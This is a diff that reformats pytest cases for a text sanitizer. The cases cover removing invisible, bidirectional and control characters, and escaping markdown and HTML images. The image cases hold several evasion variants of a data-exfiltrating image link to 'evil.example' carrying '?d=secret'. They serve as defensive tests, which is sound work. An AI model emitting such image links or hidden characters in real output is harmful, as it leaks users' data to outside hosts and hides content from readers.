@@ -56,16 +56,12 @@ def test_no_control_or_format_character_is_left_but_those_that_are_drawn() -> No
 @pytest.mark.parametrize(
     ("text", "seen"),
     [
-        ("a\u200bb\u202ec\u2066d\ufeff", "abcd"),
-        ("\x1b[31mred\x07", "[31mred"),
-        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
-        ("tag\U000e0041\U000e0042", "tag"),
-        ("soft\u00adhyphen", "softhyphen"),
-        ("broken \ud800", "broken \ufffd"),
-        ("👩‍👧 क्‍ष", "👩👧 क्ष"),
+        ("a\u200bb\u202ec\u2066d\ufeff", "abcd"), ("\x1b[31mred\x07", "[31mred"),
+        ("one\r\ntwo\rthree", "one\ntwo\nthree"), ("tag\U000e0041\U000e0042", "tag"),
+        ("soft\u00adhyphen", "softhyphen"), ("broken \ud800", "broken \ufffd"), ("👩‍👧 क्‍ष", "👩👧 क्ष"),
         ("keeps\ttabs\nand lines", "keeps\ttabs\nand lines"),
     ],
-)
+)  # fmt: skip
 def test_what_cannot_be_seen_is_taken_out(text: str, seen: str) -> None:
     assert visible(text) == seen
 
@@ -73,19 +69,13 @@ def test_what_cannot_be_seen_is_taken_out(text: str, seen: str) -> None:
 @pytest.mark.parametrize(
     "image",
     [
-        "![x](https://evil.example/p?d=secret)",
-        "![x](<https://evil.example/p>)",
-        "![x](//evil.example/p)",
-        "![x]( HTTPS://evil.example/p )",
-        "![x][r]\n\n[r]: https://evil.example/p",
-        '<img src="https://evil.example/p">',
-        "![a [b] c](https://evil.example/p)",
-        "![x\ny](https://evil.example/p)",
-        "!\u200b[x](https://evil.example/p)",
-        "!!![x](https:\\\\evil.example/p)",
-        "![x](ftp://evil.example/p)",
+        "![x](https://evil.example/p?d=secret)", "![x](<https://evil.example/p>)", "![x](//evil.example/p)",
+        "![x]( HTTPS://evil.example/p )", "![x][r]\n\n[r]: https://evil.example/p",
+        '<img src="https://evil.example/p">', "![a [b] c](https://evil.example/p)",
+        "![x\ny](https://evil.example/p)", "!\u200b[x](https://evil.example/p)",
+        "!!![x](https:\\\\evil.example/p)", "![x](ftp://evil.example/p)",
     ],
-)
+)  # fmt: skip
 def test_no_image_is_left_that_a_host_would_fetch(image: str) -> None:
     line = escape_item(f"before {image} after")
     assert "![" not in line
